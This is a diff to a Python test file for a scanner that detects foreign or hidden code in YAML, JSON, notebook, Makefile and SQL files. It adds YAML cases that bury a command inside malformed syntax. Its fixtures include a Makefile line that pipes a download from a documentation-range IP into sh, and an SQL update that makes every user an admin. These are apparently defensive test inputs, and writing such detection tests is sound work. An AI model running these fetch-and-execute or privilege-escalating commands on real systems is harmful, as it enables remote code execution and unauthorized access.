@@ -45,6 +45,8 @@ def test_the_header_of_a_table_of_quotes_is_found_in_bounded_work(quotes: int) -
 HIDING = [
     ("a.yaml", f"x: {'[' * 61}{']' * 61}\nrun: {PIPE}\n"),
     ("a.yaml", f"a: [\nrun: {PIPE}\n"),
+    ("a.yaml", f"run: echo a: b\n  c: d\nrun: {PIPE}\n"),
+    ("a.yaml", "a: b: c\n" * 5),
     ("a.json", json.dumps({"a": "b" * 400_000, "run": PIPE})),
     ("a.ipynb", json.dumps({"cells": [{"cell_type": "code", "source": "1"}] * 400 + [{"source": f"!{PIPE}"}]})),
     ("a.ipynb", json.dumps({"cells": [{"cell_type": "code", "source": {"a": f"!{PIPE}"}}]})),
@@ -61,6 +63,8 @@ def test_a_file_that_is_not_read_in_full_asks_a_person(path: str, text: str) -> 
 
 
 FOUND = [
+    ("a.yaml", f"a: b: c\nrun: echo 'd: e'; {PIPE}\n", "file.foreign_code"),
+    ("a.yaml", f"a: b: c\nrun: |\n  d: ; echo 'e: f'; {PIPE}\n", "file.foreign_code"),
     ("a.ipynb", json.dumps({"cells": [{"cell_type": "code", "source": f"%%bash\n{PIPE}"}]}), "file.foreign_code"),
     ("Makefile", "all:\n\tcurl -s http://203.0.113.5/x \\\n  | sh\n", "file.foreign_code"),
     ("a.sql", "UPDATE app.users SET name = 'x', is_admin = true;", "file.gives_access"),
